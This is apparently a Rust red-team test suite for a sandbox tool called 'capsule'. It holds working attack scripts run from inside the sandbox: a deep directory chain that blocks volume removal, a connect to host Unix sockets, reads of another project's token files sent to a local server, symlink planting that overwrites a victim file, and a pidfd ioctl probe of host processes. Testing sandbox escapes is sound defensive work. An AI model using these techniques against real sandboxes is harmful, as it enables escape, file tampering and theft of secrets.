//! Red team 8: what the unsandboxed side does later with what a run left
//! (volumes, the Python/serve callers), written as the attack and run
//! against the real binary.
//!
//! Runs in every pass of scripts/test (root, capsule-test, no namespaces,
//! through `capsule serve`); a case that needs a shape this host lacks says
//! so and skips. Each case takes a few seconds at most.

mod common;

use std::process::{Command as StdCommand, Stdio};

use common::*;

/// A sandbox whose data directory (and so its volumes) is `ROOT/data`.
fn with_data_home() -> (Sandbox, std::path::PathBuf) {
    let mut sb = Sandbox::new();
    let data = sb.mkdir("data");
    sb.set_env("XDG_DATA_HOME", &data.to_string_lossy());
    (sb, data.join("capsule/volumes"))
}

/// `capsule volume rm NAME` with the soft descriptor limit at `nofile`, as a
/// login shell's default (1024) or a CI runner's lower one gives it.
fn volume_rm(sb: &Sandbox, name: &str, nofile: u32) -> std::process::Output {
    let mut c = sb.std_command(["volume", "rm", name]);
    let envs: Vec<(std::ffi::OsString, std::ffi::OsString)> = c
        .get_envs()
        .filter_map(|(k, v)| Some((k.to_owned(), v?.to_owned())))
        .collect();
    let mut sh = StdCommand::new("/bin/sh");
    sh.arg("-c")
        .arg(format!("ulimit -n {nofile} && exec \"$0\" \"$@\""))
        .arg(c.get_program())
        .args(c.get_args())
        .env_clear()
        .envs(envs)
        .current_dir(&sb.root)
        .stdin(Stdio::null());
    c = sh;
    c.output().expect("run capsule volume rm")
}

/// A volume is the one place a run writes that capsule itself removes later,
/// on the host user's word (`capsule volume rm`), like the run's TMPDIR
/// after each run. The TMPDIR's removal walks iteratively with a bounded
/// number of descriptors and gives a `chmod 000`/`0500` directory its
/// owner's rights back at any depth (`src/supervisor/cleanup.rs`); the
/// volume's used std's `remove_dir_all`, which holds a descriptor per level,
/// and a 256-level bound on restoring modes. A run with the volume mounted
/// read-write leaves a chain of directories deeper than the descriptor limit
/// (and, for a non-root owner, a mode-0500 directory below level 256): `rm`
/// fails with EMFILE (EACCES) and the volume, with what the run wrote in
/// it, stays; `rm -f` cannot remove it either.
#[test]
fn a_run_cannot_make_its_volume_unremovable() {
    let (sb, vols) = with_data_home();
    sb.run(&["volume", "create", "deep"]).assert_code(0);
    let vol = vols.join("deep");
    // Mounted at its own path: the run needs no mount namespace for that.
    let mount = format!("volume:deep:{}:rw", vol.display());
    let script = "import os, sys\n\
                  os.chdir(sys.argv[1])\n\
                  for i in range(700):\n\
                  \x20   os.mkdir('d'); os.chdir('d')\n\
                  open('left-by-the-run', 'w').write('x')\n\
                  os.chdir(sys.argv[1])\n\
                  p = 'd/' * 301\n\
                  os.chmod(p, 0o500)\n\
                  print('planted')\n";
    let vol_s = vol.to_string_lossy().into_owned();
    let r = sb.exec_json(&["--mount", &mount], &[&python(), "-c", script, &vol_s]);
    if r.code == Some(125) {
        skip(&format!(
            "the run could not mount the volume here:{}",
            r.ctx()
        ));
        return;
    }
    assert!(r.child_stdout().contains("planted"), "{}", r.ctx());
    let out = volume_rm(&sb, "deep", 256);
    assert!(
        !vol.exists(),
        "`capsule volume rm` left the volume the run shaped (exit {:?}): {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!vols.join(".deep.json").exists(), "its metadata stayed");
}

/// `allow_unix_sockets: true` is what a policy needs for `multiprocessing`
/// managers, asyncio servers and language servers that talk over a socket
/// in their TMPDIR. It also lets the run `connect()` to every *pathname*
/// socket of the host that its uid may open, far outside every grant: no
/// Landlock ABI up to 7 has a right for connecting to a Unix socket, the
/// view shows the host read-only (a read-only mount does not stop a
/// connect), and seccomp cannot read the path. The host's sockets in
/// `/run` are its control planes: the systemd user bus
/// (`/run/user/UID/bus`: `systemd-run --user` runs anything outside the
/// sandbox), the system bus and `/run/systemd/private` as root,
/// `docker.sock`, a gpg or ssh agent under `/run/user/UID`. The README's
/// threat model says "no Unix sockets unless asked, so no docker.sock or
/// ssh-agent" and lists no such residual; only docs/guards.md says in
/// passing that Landlock does not restrict these connects.
///
/// The attack: a host program listens on a socket in a directory the
/// policy does not grant at all; the run connects and sends a line.
#[test]
#[ignore = "red team 8: allow_unix_sockets reaches every pathname socket of the host (no Landlock right for connect before ABI 8); needs a connect check in the guard or a view that hides sockets outside grants"]
fn allow_unix_sockets_reaches_no_host_socket_outside_the_grants() {
    use std::io::Read;
    use std::os::unix::net::UnixListener;
    let sb = Sandbox::visible();
    let dir = sb.mkdir("host-only");
    let sock = dir.join("control.sock");
    let l = UnixListener::bind(&sock).expect("bind the host's socket");
    l.set_nonblocking(true).expect("nonblocking");
    let policy = sb.policy("version: 1\nnetwork:\n  mode: none\n  allow_unix_sockets: true\n");
    let script = "import socket, sys\n\
                  s = socket.socket(socket.AF_UNIX)\n\
                  try:\n\
                  \x20   s.connect(sys.argv[1]); s.sendall(b'from-the-run\\n'); print('connected')\n\
                  except OSError as e:\n\
                  \x20   print('errno', e.errno)\n";
    let sock_s = sock.to_string_lossy().into_owned();
    let r = sb.exec_json(&["--policy", &policy], &[&python(), "-c", script, &sock_s]);
    if r.code == Some(125) {
        skip(&format!("allow_unix_sockets is refused here:{}", r.ctx()));
        return;
    }
    let mut got = String::new();
    if let Ok((mut c, _)) = l.accept() {
        c.set_nonblocking(false).ok();
        c.set_read_timeout(Some(std::time::Duration::from_secs(2)))
            .ok();
        let _ = c.read_to_string(&mut got);
    }
    assert!(
        !got.contains("from-the-run"),
        "the run reached the host's socket {} outside every grant and sent {got:?}{}",
        sock.display(),
        r.ctx()
    );
    let out = r.child_stdout();
    assert!(out.starts_with("errno"), "{}", r.ctx());
}

/// `capsule learn` runs an untrusted command several times, each round
/// with what the earlier rounds learnt. It keeps learnt *writes* out of its
/// own rounds (for review), but let learnt reads and, with
/// `--learn-hosts`, learnt hosts through. So the command chose its own
/// exfiltration: round 1 asks to read files of another project (outside
/// every grant, not a credential location) and to reach its own server;
/// round 2, given both, sends the files there — during `learn`, before the
/// user reviewed the draft. A loopback listener stands in for the server.
#[test]
fn learn_lets_no_round_send_what_it_learnt_to_read() {
    use std::io::{Read, Write};
    let sb = Sandbox::new();
    let other = sb.mkdir("other-project");
    for d in ["a", "b"] {
        sb.write(
            &format!("other-project/{d}/notes.env"),
            &format!("TOKEN-{d}-redteam8\n"),
        );
    }
    let proj = sb.mkdir("proj");
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind loopback");
    let port = l.local_addr().expect("addr").port();
    let (tx, rx) = std::sync::mpsc::channel::<String>();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            let mut s = s;
            s.set_read_timeout(Some(std::time::Duration::from_secs(2)))
                .ok();
            let mut buf = vec![0u8; 8192];
            let n = s.read(&mut buf).unwrap_or(0);
            let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
            let _ = s.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n");
        }
    });
    let code = format!(
        "import urllib.request\n\
         data = b''\n\
         for d in ('a', 'b'):\n\
         \x20   try: data += open('{o}/' + d + '/notes.env', 'rb').read()\n\
         \x20   except OSError: pass\n\
         try: urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:{port}/x', data=data or b'-'), timeout=5)\n\
         except Exception as e: print('refused', e)\n",
        o = other.display()
    );
    let draft = sb.path("draft.yaml");
    let py = python();
    let args = [
        "learn",
        "--learn-hosts",
        "--no-audit",
        "-o",
        draft.to_str().unwrap(),
        "--",
        py.as_str(),
        "-c",
        code.as_str(),
    ];
    let r = sb.run_in(&args, &proj, b"");
    let got: Vec<String> = rx.try_iter().collect();
    assert!(
        !got.iter().any(|g| g.contains("TOKEN-")),
        "a round of learn sent the files it learnt to read to the host it learnt: {got:?}{}",
        r.ctx()
    );
    // Learning still works: the draft names the reads for review, and the
    // host is listed as refused: a loopback literal is never proposed (issue
    // 37), only named by a person.
    assert_eq!(r.code, Some(0), "{}", r.ctx());
    let text = std::fs::read_to_string(&draft).unwrap_or_default();
    assert!(
        text.contains("notes.env") || text.contains("other-project"),
        "{text}"
    );
    assert!(!text.contains("\"127.0.0.1"), "{text}");
    assert!(
        r.stderr.contains("not granted: connect 127.0.0.1"),
        "{}",
        r.ctx()
    );
}

/// Until capsule can hold those connects, every run with
/// `allow_unix_sockets` says what it hands over (`enforcement.limitations`),
/// as runs with `command` tools do.
#[test]
fn allow_unix_sockets_says_it_reaches_the_hosts_pathname_sockets() {
    let sb = Sandbox::new();
    let policy = sb.policy("version: 1\nnetwork:\n  mode: none\n  allow_unix_sockets: true\n");
    let r = sb.exec_json(&["--policy", &policy], &["/bin/true"]);
    if r.code == Some(125) {
        skip(&format!("allow_unix_sockets is refused here:{}", r.ctx()));
        return;
    }
    let v = r.json();
    let said = v["enforcement"]["limitations"].as_array().is_some_and(|a| {
        a.iter()
            .filter_map(|l| l.as_str())
            .any(|l| l.contains("every pathname Unix socket of the host"))
    });
    assert!(said, "{}", r.ctx());
    let plain = sb.policy_named("plain.yaml", "version: 1\nnetwork:\n  mode: none\n");
    let r = sb.exec_json(&["--policy", &plain], &["/bin/true"]);
    assert!(
        !r.stdout.contains("every pathname Unix socket of the host"),
        "{}",
        r.ctx()
    );
}

/// `capsule learn -o FILE` writes the draft after the rounds. FILE is
/// usually in the current directory, which is also the workspace: the
/// command may write there. It left `draft.yaml` as a symlink to a file of
/// the user's outside every grant (a `~/.bashrc`, another project's policy),
/// and learn's `fs::write` followed it and replaced that file with the
/// draft. Likewise a directory on the way (`-o out/draft.yaml`) swapped for
/// a link to a directory outside the grants.
#[test]
fn learn_writes_its_draft_through_no_link_the_command_planted() {
    let sb = Sandbox::new();
    let victim = sb.write("victim.rc", "ORIGINAL\n");
    let elsewhere = sb.mkdir("elsewhere");
    let proj = sb.path("proj");
    let script = format!(
        "ln -sf {v} draft.yaml; mv out out.old 2>/dev/null; ln -sfn {e} out; true",
        v = victim.display(),
        e = elsewhere.display()
    );
    for dest in ["draft.yaml", "out/draft.yaml"] {
        // A fresh project each time: the link is planted while learn runs.
        let _ = std::fs::remove_dir_all(&proj);
        sb.mkdir("proj/out");
        let args = [
            "learn",
            "--no-audit",
            "--iterations",
            "1",
            "-o",
            dest,
            "--",
            "/bin/sh",
            "-c",
            script.as_str(),
        ];
        let r = sb.run_in(&args, &proj, b"");
        assert_eq!(
            std::fs::read_to_string(&victim).unwrap_or_default(),
            "ORIGINAL\n",
            "-o {dest}: learn wrote its draft through the link the command planted{}",
            r.ctx()
        );
        assert!(
            !elsewhere.join("draft.yaml").exists(),
            "-o {dest}: learn wrote its draft into the directory the command linked{}",
            r.ctx()
        );
        if dest == "out/draft.yaml" {
            assert!(r.stderr.contains("no longer the directory"), "{}", r.ctx());
        } else {
            // The name is the draft's now (the link replaced, not followed).
            let md = std::fs::symlink_metadata(proj.join(dest)).expect("the draft");
            assert!(md.is_file(), "{}", r.ctx());
            assert_eq!(r.code, Some(0), "{}", r.ctx());
        }
    }
}

/// Without a pid namespace the host's `/proc` is out of reach (Landlock),
/// "ps sees nothing". But `pidfd_open` takes any pid, and since Linux 6.13
/// the `PIDFD_GET_INFO` ioctl on a pidfd answers, with no ptrace check,
/// what `/proc/PID/status` would: the process's parent, its real, effective
/// and saved uids and gids and its cgroup. A run walks the pid space and
/// rebuilds the host's process tree and who runs what (capsule's own
/// supervisor included). The attack: the parent pid and uid of a host
/// `sleep` the test started.
#[test]
fn without_a_pid_namespace_the_run_cannot_describe_host_processes() {
    let (sleeper, _guard) = host_sleeper();
    let sb = Sandbox::new();
    let script = r#"
import ctypes, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.syscall(434, int(sys.argv[1]), 0)  # pidfd_open
if fd < 0:
    print("pidfd_open errno", ctypes.get_errno()); sys.exit(0)
buf = bytearray(64); struct.pack_into("Q", buf, 0, 0xff)
b = (ctypes.c_char * 64).from_buffer(buf)
PIDFD_GET_INFO = (3 << 30) | (64 << 16) | (0xFF << 8) | 11
if libc.ioctl(fd, ctypes.c_ulong(PIDFD_GET_INFO), b) < 0:
    print("ioctl errno", ctypes.get_errno()); sys.exit(0)
vals = struct.unpack_from("11I", buf, 16)
print("INFO pid", vals[0], "ppid", vals[2], "ruid", vals[3])
"#;
    let pid = sleeper.id().to_string();
    let r = sb.exec_json(&[], &[&python(), "-c", script, &pid]);
    r.assert_code(0);
    let out = r.child_stdout();
    assert!(
        !out.contains("INFO"),
        "the run described host process {pid} (parent {}): {out}{}",
        std::process::id(),
        r.ctx()
    );
}
